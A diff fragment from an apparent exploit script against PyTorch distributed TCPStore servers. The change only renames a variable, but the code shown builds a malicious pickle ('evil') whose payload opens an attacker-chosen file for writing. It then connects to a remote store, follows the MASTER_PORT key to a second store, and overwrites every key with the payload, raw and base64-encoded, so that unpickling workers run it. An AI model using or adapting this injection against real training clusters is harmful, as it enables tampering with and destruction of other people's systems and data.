@@ -33,10 +33,10 @@ class Payload:
         return open, (sys.argv[3], "w")
 def connect(port):
     return dist.TCPStore(sys.argv[1], int(port), is_master=False, wait_for_workers=False)
-launchers = connect(sys.argv[2])
-port = next(key for key in launchers.list_keys() if key.endswith("/MASTER_PORT"))
+agents = connect(sys.argv[2])
+port = next(key for key in agents.list_keys() if key.endswith("/MASTER_PORT"))
 evil = pickle.dumps(Payload())
-for store in (connect(base64.b64decode(launchers.get(port))[32:]), launchers):
+for store in (connect(base64.b64decode(agents.get(port))[32:]), agents):
     keys = store.list_keys()
     for key in keys:
         for value in (evil, base64.b64encode(evil).decode()):
